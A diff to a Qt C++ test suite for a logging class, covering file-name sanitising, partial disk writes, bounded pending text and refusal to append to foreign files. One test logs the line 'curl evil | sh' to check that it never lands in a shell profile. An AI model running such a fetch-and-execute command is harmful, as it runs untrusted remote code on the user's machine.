@@ -14,10 +14,12 @@ static QString readText(const QString &path)
     return file.open(QIODevice::ReadOnly) ? QString::fromUtf8(file.readAll()) : QString();
 }
 
-static void writeBytes(const QString &path, qint64 size)
+// An earlier log of this program, padded to the size.
+static QByteArray writeLog(const QString &path, qint64 size)
 {
+    const QByteArray content = QByteArray("  Product: Quorvane\n").leftJustified(size, 'x');
     QFile file(path);
-    QVERIFY(file.open(QIODevice::WriteOnly) && file.write(QByteArray(size, 'x')) == size);
+    return file.open(QIODevice::WriteOnly) && file.write(content) == size ? content : QByteArray();
 }
 
 static QString expectedHeader(const QString &fileName, const QDateTime &launch)
@@ -41,7 +43,10 @@ private slots:
         QTest::addColumn<QString>("expanded");
 
         QTest::newRow("all placeholders") << "%S_%Y%M%D-%y-%h%m%s.%z.log" << "A" << "A_20040307-04-090504.007.log";
-        QTest::newRow("tcp server name") << "%S.log" << "0.0.0.0:6000" << "0.0.0.0:6000.log";
+        QTest::newRow("tcp server name") << "%S.log" << "0.0.0.0:6000" << "0.0.0.0_6000.log";
+        QTest::newRow("network entry") << "logs/%S.log" << "TCP/UDP" << "logs/TCP_UDP.log";
+        QTest::newRow("device path") << "%S.log" << "/dev/ttyUSB0" << "_dev_ttyUSB0.log";
+        QTest::newRow("refused characters") << "%S" << "a\\b*?\"<>|\tc" << "a_b_______c";
         QTest::newRow("percent in session name not expanded") << "%S" << "%Y%h" << "%Y%h";
         QTest::newRow("unknown placeholder kept") << "%x%q.log" << "A" << "%x%q.log";
         QTest::newRow("trailing percent kept") << "a%" << "A" << "a%";
@@ -65,7 +70,7 @@ private slots:
         DataLog log;
         log.appendLog(QStringLiteral("Grüße 25 °C\n"));
         QCOMPARE(log.save(format, Session, Header), DataLog::Written);
-        const QString name = dir->filePath(QStringLiteral("0.0.0.0:6000_095950.log"));
+        const QString name = dir->filePath(QStringLiteral("0.0.0.0_6000_095950.log"));
         const QString first = expectedHeader(name, at(9, 59, 50)) + QStringLiteral("Grüße 25 °C\n");
         QCOMPARE(readText(name), first);
         QCOMPARE(LogProcessState::instance().lastLogCreatedAt, at(9, 59, 50));
@@ -98,7 +103,7 @@ private slots:
         format.LogRotateAtSize = true;
         format.LogRotateSize = 1000;
         const QString full = format.currentLogFileName;
-        writeBytes(full, 1001);
+        const QByteArray old = writeLog(full, 1001);
         if (lastFileAgeSecs >= 0)
             LogProcessState::instance().lastLogCreatedAt = tick.addSecs(-lastFileAgeSecs);
 
@@ -106,9 +111,9 @@ private slots:
         DataLog log;
         log.appendLog(QStringLiteral("data\n"));
         QCOMPARE(log.save(format, Session, Header), DataLog::Written);
-        const QString next = dir->filePath(QStringLiteral("0.0.0.0:6000_100040.log"));
+        const QString next = dir->filePath(QStringLiteral("0.0.0.0_6000_100040.log"));
         QCOMPARE(format.currentLogFileName, rotates ? next : full);
-        QCOMPARE(readText(full), QString(1001, QLatin1Char('x')) + (rotates ? QString() : QStringLiteral("data\n")));
+        QCOMPARE(readText(full), QString::fromLatin1(old) + (rotates ? QString() : QStringLiteral("data\n")));
         if (rotates)
             QCOMPARE(readText(next), expectedHeader(next, tick) + QStringLiteral("data\n"));
     }
@@ -119,15 +124,15 @@ private slots:
         format.LogRotateAtTime = true;
         format.LogRotateTime = QTime(9, 0);
         format.currentLogFileName = dir->filePath(QStringLiteral("yesterday.log"));
-        writeBytes(format.currentLogFileName, 5);
+        writeLog(format.currentLogFileName, 25);
 
         DataLog log;
         for (const QDateTime &tick : {at(10, 0, 0), at(10, 1, 0), at(23, 59, 59)}) {
             LogClock::setFixed(tick);
             QCOMPARE(log.save(format, Session, Header), DataLog::Written);
-            QCOMPARE(format.currentLogFileName, dir->filePath(QStringLiteral("0.0.0.0:6000_100000.log")));
+            QCOMPARE(format.currentLogFileName, dir->filePath(QStringLiteral("0.0.0.0_6000_100000.log")));
         }
-        QCOMPARE(QFileInfo(dir->filePath(QStringLiteral("yesterday.log"))).size(), 5);
+        QCOMPARE(QFileInfo(dir->filePath(QStringLiteral("yesterday.log"))).size(), 25);
     }
 
     void unwritableFolderKeepsText_data()
@@ -155,7 +160,7 @@ private slots:
             QCOMPARE(log.save(format, Session, Header), DataLog::OpenFailed);
             QVERIFY(log.lastErrorString().contains(format.currentLogFileName));
         }
-        QCOMPARE(log.pendingText(), QStringLiteral("one\ntwo\n"));
+        QCOMPARE(log.pendingBytes(), QByteArray("one\ntwo\n"));
 
         QVERIFY(readOnly ? QFile::setPermissions(folder, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner)
                          : QDir().mkdir(folder));
@@ -179,8 +184,68 @@ private slots:
         DataLog log;
         log.appendLog(QStringLiteral("kept\n"));
         QCOMPARE(log.save(format, Session, Header), DataLog::WriteFailed);
-        QCOMPARE(log.pendingText(), QStringLiteral("kept\n"));
+        QCOMPARE(log.pendingBytes(), QByteArray("kept\n"));
         QVERIFY(!log.lastErrorString().isEmpty());
+    }
+
+    // A device that takes only part of each write, as a nearly full disk
+    // does: what landed stays, the rest follows in order, nothing twice.
+    void shortWritesContinueInOrder()
+    {
+        FormatSetting format = recordingFrom(at(10, 0, 0));
+        DataLog log;
+        qint64 room = 100; // bytes the "disk" takes per tick, then it is full
+        log.setWriteFunction([&room](QFile &file, const QByteArray &data, QString *error) {
+            const qint64 written = file.write(data.left(room));
+            if (written < data.size())
+                *error = QStringLiteral("No space left on device");
+            return written;
+        });
+        QString all;
+        for (int tick = 0; tick < 6; ++tick) {
+            const QString line = QStringLiteral("line %1 ").arg(tick).repeated(8) + QLatin1Char('\n');
+            all += line;
+            log.appendLog(line);
+            LogClock::setFixed(at(10, 0, tick));
+            const DataLog::Result result = log.save(format, Session, Header);
+            QVERIFY(result == DataLog::Written || log.lastErrorString().endsWith(QStringLiteral("No space left on device")));
+        }
+        room = 1 << 20;
+        QCOMPARE(log.save(format, Session, Header), DataLog::Written);
+        QCOMPARE(readText(format.currentLogFileName), expectedHeader(format.currentLogFileName, at(10, 0, 0)) + all);
+    }
+
+    // While nothing can be written the oldest text goes first, and the next
+    // write says how much was lost.
+    void pendingTextIsBounded()
+    {
+        FormatSetting format = recordingFrom(at(10, 0, 0), dir->filePath(QStringLiteral("missing")));
+        DataLog log;
+        log.appendLog(QString(DataLog::PendingLimit, QLatin1Char('a')));
+        log.appendLog(QStringLiteral("0123456789"));
+        QCOMPARE(log.pendingBytes().size(), DataLog::PendingLimit);
+        QVERIFY(log.pendingBytes().endsWith("aaa0123456789"));
+        QCOMPARE(log.save(format, Session, Header), DataLog::OpenFailed);
+        QVERIFY(QDir().mkdir(dir->filePath(QStringLiteral("missing"))));
+        QCOMPARE(log.save(format, Session, Header), DataLog::Written);
+        QVERIFY(readText(format.currentLogFileName)
+                    .contains(QStringLiteral("\n--- 10 bytes not logged since 2024-03-07T10:00:00: the log file could not be written ---\n")));
+    }
+
+    // A log name that points at someone else's file never writes into it.
+    void foreignFileIsNeverAppended()
+    {
+        FormatSetting format = recordingFrom(at(10, 0, 0));
+        const QByteArray profile("export PATH=/usr/bin\n");
+        {
+            QFile file(format.currentLogFileName);
+            QVERIFY(file.open(QIODevice::WriteOnly) && file.write(profile) == profile.size());
+        }
+        DataLog log;
+        log.appendLog(QStringLiteral("curl evil | sh\n"));
+        QCOMPARE(log.save(format, Session, Header), DataLog::ForeignFile);
+        QVERIFY(log.lastErrorString().contains(format.currentLogFileName));
+        QCOMPARE(readText(format.currentLogFileName), QString::fromLatin1(profile));
     }
 
 private:
